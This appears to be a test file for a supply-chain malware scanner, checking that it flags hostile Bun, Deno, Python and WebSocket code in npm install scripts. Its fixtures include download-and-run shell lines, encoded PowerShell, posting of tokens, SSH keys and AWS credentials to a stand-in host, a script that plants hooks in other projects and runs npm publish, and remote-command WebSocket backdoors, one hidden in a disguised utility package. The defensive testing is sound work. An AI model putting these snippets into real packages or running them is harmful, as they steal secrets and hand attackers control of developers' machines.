/**
 * Bun's and Deno's own APIs read as the Node APIs they stand for (src/engine/js/models/runtimes.ts),
 * a runner picked per runtime by a condition (both are followed), and a Python step's argument
 * lists read as commands.
 */
import { analyzeSource, threatsOf } from './helpers';

const install = (files: Record<string, string>, script = 'bun index.js || node index.js') =>
  analyzeSource({
    'package.json': JSON.stringify({
      name: 'bun-dev-kit',
      version: '1.1.0',
      scripts: { postinstall: script },
    }),
    ...files,
  });
const rules = (files: Record<string, string>, script?: string) =>
  install(files, script).evidence.map((f) => f.rule);

describe('Bun and Deno APIs', () => {
  it.each([
    ["Bun.spawnSync(['npm', 'publish']);", 'js.exec-npm-publish'],
    ["Bun.spawn({ cmd: ['sh', '-c', 'curl -s http://203.0.113.9/a | sh'] });", 'js.exec-download-pipe-shell'],
    ['await Bun.$`curl -s http://203.0.113.9/a.sh | sh`;', 'js.exec-download-pipe-shell'],
    [
      "new Deno.Command('npm', { args: ['publish', '--access', 'public'] }).outputSync();",
      'js.exec-npm-publish',
    ],
    [
      "Deno.run({ cmd: ['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='] });",
      'js.exec-powershell-encoded',
    ],
  ])('%s', (code, rule) => {
    expect(rules({ 'index.js': code })).toContain(rule);
  });
  it('secrets read through Bun.env, Bun.file, Deno.env.get and Deno.readTextFile, then posted', () => {
    for (const code of [
      "await fetch('https://c.example-sync.dev/u', { method: 'POST', body: Bun.env.NPM_TOKEN });",
      "const k = await Bun.file(require('os').homedir() + '/.ssh/id_rsa').text(); await fetch('https://c.example-sync.dev/u', { method: 'POST', body: k });",
      "await fetch('https://c.example-sync.dev/u', { method: 'POST', body: Deno.env.get('AWS_SECRET_ACCESS_KEY') });",
      "const s = await Deno.readTextFile(Deno.env.get('HOME') + '/.aws/credentials'); await fetch('https://c.example-sync.dev/u', { method: 'POST', body: s });",
    ])
      expect(threatsOf(install({ 'index.js': code }))).toContain('data_exfiltration');
  });
  it('quiet: a Bun CLI that runs git, reads its own config and writes its cache', () => {
    const r = install(
      {
        'index.js': `const cfg = await Bun.file('./.devkitrc.json').json().catch(() => ({}));
const out = Bun.spawnSync(['git', 'status', '--porcelain']).stdout.toString();
await Bun.write('node_modules/.cache/devkit/status.txt', out);
if (Bun.env.DEVKIT_VERBOSE) console.log(cfg, out);`,
      },
      'bun index.js',
    );
    expect(threatsOf(r)).toEqual([]);
  });
});

describe('a runner picked per runtime by a condition', () => {
  it('both runners are called: the Node branch publishes', () => {
    expect(
      rules({
        'index.js': `const run = typeof Bun !== 'undefined' ? (a) => Bun.spawnSync(a) : (a) => require('child_process').spawnSync(a[0], a.slice(1));
run(['npm', 'version', 'patch']);
run(['npm', 'publish']);`,
      }),
    ).toContain('js.exec-npm-publish');
  });
});

describe('a Python step that starts a command from an argument list', () => {
  it('subprocess.run(["npm", "publish", …]) after editing the projects under home', () => {
    const r = install(
      {
        'tools/sync.py': `import json, os, subprocess, pathlib
home = pathlib.Path.home()
tok = os.environ.get("NPM_TOKEN")
if tok:
    for d in (home / "projects").glob("*/package.json"):
        meta = json.loads(d.read_text())
        meta.setdefault("scripts", {})["preinstall"] = "python3 tools/sync.py"
        d.write_text(json.dumps(meta))
        subprocess.run(["npm", "publish", "--access", "public"], cwd=d.parent, capture_output=True)
`,
      },
      'python3 tools/sync.py || true',
    );
    expect(r.evidence.map((f) => f.rule)).toEqual(
      expect.arrayContaining(['shell.npm-publish', 'script.foreign-file-change']),
    );
  });
  it('quiet: subprocess.run(["git", "status"]) in a build helper', () => {
    expect(
      threatsOf(
        install(
          {
            'tools/build.py':
              'import subprocess\nsubprocess.run(["git", "describe", "--tags"], check=True)\n',
          },
          'python3 tools/build.py',
        ),
      ),
    ).toEqual([]);
  });
});

describe('a command channel over a WebSocket', () => {
  const code = (files: Record<string, string>) => install(files, 'node index.js').evidence.map((f) => f.rule);
  it('Deno: the environment as an object, host facts, ws.onmessage into Deno.Command', () => {
    const found = code({
      'index.js': `const env = Deno.env.toObject();
const ws = new WebSocket(atob('d3NzOi8vMTk4LjUxLjEwMC4yOTo0NDMvaQ=='));
ws.onopen = () => ws.send(JSON.stringify({ host: Deno.hostname(), user: env.USER, cwd: Deno.cwd() }));
ws.onmessage = async (ev) => {
  const m = JSON.parse(ev.data);
  const { stdout } = await new Deno.Command('/bin/sh', { args: ['-c', m.c], stdout: 'piped' }).output();
  ws.send(new TextDecoder().decode(stdout));
};`,
    });
    expect(found).toEqual(expect.arrayContaining(['js.exec-network-data', 'js.exfil-fingerprint']));
  });
  it('Node: a handler registered through a helper inside the function that gets the callback', () => {
    expect(
      code({
        'index.js': `const ctor = Reflect.construct.bind(Reflect, Function);
function channel(onMsg) {
  const ws = new WebSocket('wss://203.0.113.7/s');
  const on = (ev, fn) => (ws.addEventListener ? ws.addEventListener(ev, fn) : ws.on(ev, fn));
  on('message', (m) => onMsg(ws, m.data));
}
channel((ws, raw) => { const job = JSON.parse(String(raw)); ctor(['require', job.c])(require); });`,
      }),
    ).toContain('js.eval-network');
  });
  it('quiet: a client whose onmessage handler renders what it receives', () => {
    expect(
      threatsOf(
        install(
          {
            'index.js': `const ws = new WebSocket('wss://live.example-chat.dev/room');
ws.onmessage = (ev) => { const m = JSON.parse(ev.data); document.getElementById('log').textContent += m.text; };`,
          },
          'node index.js',
        ),
      ),
    ).toEqual([]);
  });
});

describe('a handler registered deep inside helpers, with a reconnect timer', () => {
  it('attach → channel → open (rescheduled by a timer) → on → handler → callback: still followed', () => {
    const r = analyzeSource({
      'package.json': JSON.stringify({ name: 'is-typeof-utils', version: '5.0.1', main: 'index.js' }),
      'index.js': "const is = {}; require('./lib/env')(is); module.exports = is;",
      'lib/env.js': `const ctor = Reflect.construct.bind(Reflect, Function);
function channel(onMsg) {
  const WS = globalThis.WebSocket || (() => { try { return require(['w', 's'].join('')); } catch { return null; } })();
  if (!WS) return;
  let ws;
  const open = () => {
    try { ws = new WS('wss://203.0.113.77:8443/s'); } catch { return setTimeout(open, 60000); }
    const on = (ev, fn) => (ws.addEventListener ? ws.addEventListener(ev, fn) : ws.on(ev, fn));
    on('message', (m) => onMsg(ws, m && m.data !== undefined ? m.data : m));
    on('close', () => setTimeout(open, 30000));
  };
  open();
}
module.exports = function attach(is) {
  if (process.env.CI || attach.started) return;
  attach.started = true;
  channel((ws, raw) => { const job = JSON.parse(String(raw)); ctor(['require', job.c])(require); });
};`,
    });
    expect(r.evidence.map((f) => f.rule)).toContain('js.eval-network');
  });
});
